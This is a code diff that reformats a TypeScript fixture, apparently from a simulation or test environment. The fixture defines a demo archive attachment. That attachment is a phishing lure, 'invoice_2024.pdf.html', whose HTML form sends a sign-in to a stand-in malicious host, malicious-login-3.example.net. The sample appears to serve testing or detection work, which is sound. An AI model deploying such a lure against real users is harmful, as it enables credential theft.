@@ -7,13 +7,23 @@ export interface SimFile {
   content: Buffer;
 }
 
-export const DEMO_ATTACHMENT_ID = 'eNpNj91Og0AQhd9lr0tc2kVoEy8KqZZKWyqtBWJCYJkASZdt9gclxncX1Kg3k0nO-WbOeUcSqBbQlGiBknq3c1ebrSMsFaqlP3vYhyzGqooePVmSNAlL_4m93DTJ_bpbR0G_6VMRPydvhyJKJJzSgLsYfE93_GztHY--FrSmq4bO4iPn7CyuQIutDAPa-ndoghhImVcQqVxpeeyvMGTIBa2bDso_-aBBgz_ka_XlMkGKtb871VJxBoLycmS9U-SaSxNPye2AdyBkw1u0MAeoHQ3f0M-Hr8ZVRg3ItCywmREn60riGHb27042HaaJB3lqjT4FghEDY9sgNplbc4LRxye-SWmI';
+export const DEMO_ATTACHMENT_ID =
+  'eNpNj91Og0AQhd9lr0tc2kVoEy8KqZZKWyqtBWJCYJkASZdt9gclxncX1Kg3k0nO-WbOeUcSqBbQlGiBknq3c1ebrSMsFaqlP3vYhyzGqooePVmSNAlL_4m93DTJ_bpbR0G_6VMRPydvhyJKJJzSgLsYfE93_GztHY--FrSmq4bO4iPn7CyuQIutDAPa-ndoghhImVcQqVxpeeyvMGTIBa2bDso_-aBBgz_ka_XlMkGKtb871VJxBoLycmS9U-SaSxNPye2AdyBkw1u0MAeoHQ3f0M-Hr8ZVRg3ItCywmREn60riGHb27042HaaJB3lqjT4FghEDY9sgNplbc4LRxye-SWmI';
 
 export function archiveFiles(sim: SimContext): Map<string, SimFile> {
-  return sim.store('archive.files', () =>
-    new Map([
-      [DEMO_ATTACHMENT_ID, { name: 'invoice_2024.pdf.html', contentType: 'application/octet-stream', content: Buffer.from('<html><body><form action="http://malicious-login-3.example.net/verify">Sign in to view your invoice</form></body></html>\n') }],
-    ]),
+  return sim.store(
+    'archive.files',
+    () =>
+      new Map([
+        [
+          DEMO_ATTACHMENT_ID,
+          {
+            name: 'invoice_2024.pdf.html',
+            contentType: 'application/octet-stream',
+            content: Buffer.from('<html><body><form action="http://malicious-login-3.example.net/verify">Sign in to view your invoice</form></body></html>\n'),
+          },
+        ],
+      ]),
   );
 }
 
